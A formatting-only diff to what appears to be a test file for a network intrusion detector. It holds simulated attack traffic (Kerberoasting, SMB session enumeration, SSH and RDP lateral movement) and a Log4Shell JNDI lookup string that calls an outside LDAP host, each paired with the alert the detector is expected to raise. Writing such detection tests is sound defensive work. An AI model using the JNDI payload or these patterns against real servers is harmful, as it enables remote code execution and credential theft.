@@ -32,7 +32,12 @@ export const OTHERS: readonly Attack[] = [
   },
   {
     name: 'Kerberoasting of one account by name',
-    play: (scene) => void scene.tcp(A, B, 88).c(tgsRequest('CLINIC\\svc_sql', [23, 16, 3, 18], 18)).s(tgsReply('CLINIC\\svc_sql', 23)).close(), // biome-ignore format: one line
+    play: (scene) =>
+      void scene
+        .tcp(A, B, 88)
+        .c(tgsRequest('CLINIC\\svc_sql', [23, 16, 3, 18], 18))
+        .s(tgsReply('CLINIC\\svc_sql', 23))
+        .close(),
     found: [`credential.kerberoasting succeeded ${A}>${B}`],
   },
   {
@@ -66,7 +71,10 @@ export const OTHERS: readonly Attack[] = [
     name: 'who is signed in where',
     play: (scene) => {
       for (let host = 10; host < 18; host++)
-        new Smb2(scene.tcp(A, `10.0.0.${host}`, 445)).tree(`\\\\10.0.0.${host}\\IPC$`).pipe('srvsvc', IDS.srvsvc).call(12, zeros(40), { stub: zeros(60) }); // biome-ignore format: one line
+        new Smb2(scene.tcp(A, `10.0.0.${host}`, 445))
+          .tree(`\\\\10.0.0.${host}\\IPC$`)
+          .pipe('srvsvc', IDS.srvsvc)
+          .call(12, zeros(40), { stub: zeros(60) });
     },
     found: [`discovery.sessions attempted ${A}>8`],
   },
@@ -96,7 +104,10 @@ export const OTHERS: readonly Attack[] = [
     name: 'Log4Shell, and the server fetches its program',
     play: (scene) => {
       http(scene, agent(lookup('§{jndi:ldap://203.0.113.7:9001/a}')), '', 8080);
-      scene.tcp(B, OUTSIDE, 1389).c(Buffer.from('300c020101600702010304008000', 'hex')).s(Buffer.from('300c02010161070a010004000400', 'hex')); // biome-ignore format: one line
+      scene
+        .tcp(B, OUTSIDE, 1389)
+        .c(Buffer.from('300c020101600702010304008000', 'hex'))
+        .s(Buffer.from('300c02010161070a010004000400', 'hex'));
     },
     found: [`exploit.log4shell succeeded ${A}>${B}`],
   },
@@ -121,7 +132,10 @@ export const OTHERS: readonly Attack[] = [
       };
       ssh(A, B);
       ssh(B, C);
-      const link = scene.tcp(C, D, 3389).c(Buffer.from('030000130ee000000000000100080003000000', 'hex')).s(Buffer.from('030000130ed000001234000209080002000000', 'hex')); // biome-ignore format: one line
+      const link = scene
+        .tcp(C, D, 3389)
+        .c(Buffer.from('030000130ee000000000000100080003000000', 'hex'))
+        .s(Buffer.from('030000130ed000001234000209080002000000', 'hex'));
       for (let i = 0; i < 60; i++) link.c([0x17, 3, 3, 0, 200], zeros(200)).s([0x17, 3, 3, 4, 0], zeros(1024));
     },
     found: [`lateral.ssh succeeded ${A}>${B}`, `lateral.ssh succeeded ${B}>${C}`, `lateral.rdp succeeded ${C}>${D}`],
